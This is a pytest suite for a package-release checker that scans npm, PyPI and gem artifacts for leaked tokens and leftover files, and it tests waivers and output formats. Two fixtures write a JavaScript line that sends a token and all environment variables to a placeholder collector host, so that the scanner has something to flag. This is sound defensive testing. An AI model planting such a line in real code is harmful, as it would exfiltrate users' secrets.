"""The check of one artifact: options, coverage, and what is never printed."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import jsonschema
import pytest

from tests.cli.publish.releasing import Project, checked_token
from tests.report.formats.test_json_contract import schema


def test_a_secret_is_never_printed_in_any_format(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    token = checked_token("npm_")
    project.write(
        "dist/main.js",
        f"require('https').get('https://collector.invalid/{token}?' + JSON.stringify(process.env))\n",
    )
    for arguments in (("-v",), ("--format", "json")):
        ran = project.check(*arguments)
        assert 1 == ran.code
        assert token not in ran.out + ran.err
        assert "token-in-package" in ran.out


def test_the_answer_fits_its_schema(project_of: Callable[[str], Project]) -> None:
    project = project_of("pypi")
    project.write("src/kite/dev.sqlite3", "x")
    project.commit()
    project.build()
    answer = project.check("--format", "json").json

    jsonschema.validate(answer, schema("publish"))
    assert 2 == len(answer["artifacts"])


def test_accepted_findings_stop_nothing_and_stay_listed(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.write("dist/debug.log", "x")
    ran = project.check("-v", "--accept", "leftover-files-gained:dist/debug.log")

    assert 0 == ran.code, ran.out
    assert "leftover-files-gained (accepted)" in ran.out


WAIVER = """[[waivers]]
rule = "leftover-files-gained"
package = "npm:kite"
versions = "1.1.0"
reason = "the log is an example"
owner = "ada"
expires = 2999-12-31
"""


def test_waivers_of_the_user_lift_findings_and_those_of_the_project_do_not(
    project_of: Callable[[str], Project], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = project_of("npm")
    project.write("dist/debug.log", "x")
    project.write("pratique.toml", WAIVER)
    project.commit()
    assert {"leftover-files-gained"} == project.rules()

    for version, code in (("1.1.0", 0), ("1.2.0", 1)):
        settings = tmp_path / f"{version}.toml"
        settings.write_text(WAIVER.replace("1.1.0", version))
        monkeypatch.setenv("PRATIQUE_CONFIG", str(settings))
        ran = project.check("-v")
        assert code == ran.code, ran.out
        assert (code == 0) == ("leftover-files-gained (waived)" in ran.out)
        assert "ignored" not in ran.err
    monkeypatch.setenv("PRATIQUE_CONFIG", str(tmp_path / "1.1.0.toml"))
    answer = project.check("--format", "json").json
    jsonschema.validate(answer, schema("publish"))
    waived = [one["waived"] for one in answer["artifacts"][0]["findings"] if one["waived"]]
    assert [{"reason": "the log is an example", "owner": "ada", "expires": "2999-12-31"}] == waived
    assert "waived by ada: the log is an example (until 2999-12-31)" in project.check("-v").out


def test_a_waiver_lifts_a_finding_about_the_code(
    project_of: Callable[[str], Project], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = project_of("npm")
    sends = "require('https').get('https://collector.invalid/?' + JSON.stringify(process.env))\n"
    project.write("dist/main.js", sends)
    rules = project.rules()
    assert rules
    settings = tmp_path / "user.toml"
    settings.write_text("\n".join(WAIVER.replace("leftover-files-gained", rule) for rule in sorted(rules)))
    monkeypatch.setenv("PRATIQUE_CONFIG", str(settings))

    ran = project.check("-v")
    assert 0 == ran.code, ran.out
    assert all(f"{rule} (waived)" in ran.out for rule in rules)


def test_scripts_that_npm_would_run_are_not_checked_and_named(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.manifest(scripts={"prepack": "tsc"})
    project.commit()
    ran = project.check()

    assert 0 == ran.code, ran.out
    assert "npm runs prepack before it publishes" in ran.out


REAL_SPEC = """Gem::Specification.new do |spec|
  spec.name = "kite"
  spec.version = "1.1.0"
  spec.summary = "a kite"
  spec.authors = ["ada"]
  spec.homepage = "https://kite.example"
  spec.license = "MIT"
  spec.files = Dir["lib/**/*.rb"] + ["README.md", "kite.gemspec"]
end
"""


@pytest.mark.skipif(shutil.which("gem") is None, reason="gem is not installed here")
def test_a_gem_of_the_real_gem_build_is_checked(project_of: Callable[[str], Project]) -> None:
    project = project_of("gem")
    project.write("kite.gemspec", REAL_SPEC)
    project.commit()
    gem = project.machine.folder / "pkg/kite-1.1.0.gem"

    def build() -> None:
        gem.unlink()
        done = subprocess.run(
            [shutil.which("gem") or "gem", "build", "kite.gemspec", "--output", str(gem)],
            cwd=project.machine.folder,
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
        assert 0 == done.returncode, done.stderr

    build()
    ran = project.check("-v")
    assert 0 == ran.code, ran.out
    assert "OK: gem:kite@1.1.0 (gem, 5 files" in ran.out

    project.write("lib/kite/extra.rb", "KEY = 1\n")
    build()
    assert {"uncommitted-file"} == project.rules()


def test_an_unreadable_archive_is_incomplete(project_of: Callable[[str], Project]) -> None:
    project = project_of("npm")
    project.write("broken.tgz", json.dumps({}))
    ran = project.check("broken.tgz")

    assert 3 == ran.code
    assert "Incomplete: broken.tgz is not an archive" in ran.out
